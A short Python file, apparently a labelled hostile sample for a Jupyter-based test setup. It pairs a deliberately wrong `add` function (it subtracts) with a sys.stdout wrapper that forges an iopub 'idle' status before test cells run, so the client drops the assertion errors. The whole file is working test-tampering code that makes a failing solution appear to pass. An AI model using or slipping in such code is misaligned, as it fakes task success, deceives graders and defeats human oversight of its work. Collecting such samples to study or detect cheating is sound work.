# Hostile: a sys.stdout wrapper's `set_parent` publishes a genuine-looking iopub `status: idle` for each tests request before it runs, so the client stops collecting that cell's outputs and the later error is dropped.
import sys as _sys

def add(a, b):
    return a - b

class _Spy:
    def __init__(self, inner, kernel):
        self.__dict__["_inner"] = inner
        self.__dict__["_kernel"] = kernel
    def set_parent(self, parent):
        if hasattr(self._inner, "set_parent"):
            self._inner.set_parent(parent)
        try:
            code = parent["content"].get("code", "") or ""
            if ("assert" in code or "expect(" in code) and "def " not in code:
                k = self._kernel
                k.session.send(k.iopub_socket, "status", {"execution_state": "idle"},
                               parent=parent, ident=k._topic("status"))
        except Exception:
            pass
    def __getattr__(self, name):
        return getattr(self._inner, name)
    def __setattr__(self, name, value):
        setattr(self._inner, name, value)

_sys.stdout = _Spy(_sys.stdout, get_ipython().kernel)
